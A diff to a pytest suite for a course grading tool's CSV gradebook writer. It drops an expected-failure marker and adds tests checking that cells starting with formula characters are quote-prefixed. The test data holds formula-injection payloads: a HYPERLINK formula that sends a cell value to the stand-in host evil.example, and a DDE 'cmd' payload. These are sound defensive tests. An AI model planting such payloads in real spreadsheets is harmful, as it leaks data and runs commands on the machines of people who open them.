@@ -245,9 +245,6 @@ def test_an_attack_the_gate_held_is_refused_at_its_own_lines(snippet):
 # that starts with = + - @ is a formula to the spreadsheet the instructor opens the CSV in.
 
 @pytest.mark.sandbox
-@pytest.mark.xfail(strict=True, reason=(
-    "cli_batch._write_csv writes the student column verbatim: a folder named `=HYPERLINK(...)` is a live "
-    "formula in the gradebook (CSV/formula injection); prefix such cells with a quote"))
 def test_a_student_folder_name_is_no_formula_in_the_gradebook(tmp_path):
     name = '=HYPERLINK("evil.example?"&B3,"details")'  # no slash: one folder
     (tmp_path / "subs" / name).mkdir(parents=True)
@@ -259,3 +256,16 @@ def test_a_student_folder_name_is_no_formula_in_the_gradebook(tmp_path):
     cells = [cell for row in csv.reader(io.StringIO(book.read_text())) for cell in row]
     assert any("evil.example" in c for c in cells)
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_text_column_of_the_gradebook_is_no_formula(tmp_path, start):
+    from course_nn.grading import cli_batch
+
+    columns = ["student", "score", "status", "error", "note"]
+    row = {"student": f"{start}1+1", "score": 0.0, "status": f"{start}ok", "error": f"{start}cmd|' /C calc'!A0",
+           "note": "plain - text"}
+    cli_batch._write_csv(tmp_path / "g.csv", [row], columns)
+    (got,) = list(csv.DictReader((tmp_path / "g.csv").open(newline="")))
+    assert got == {"student": f"'{start}1+1", "score": "0.0", "status": f"'{start}ok",
+                   "error": f"'{start}cmd|' /C calc'!A0", "note": "plain - text"}
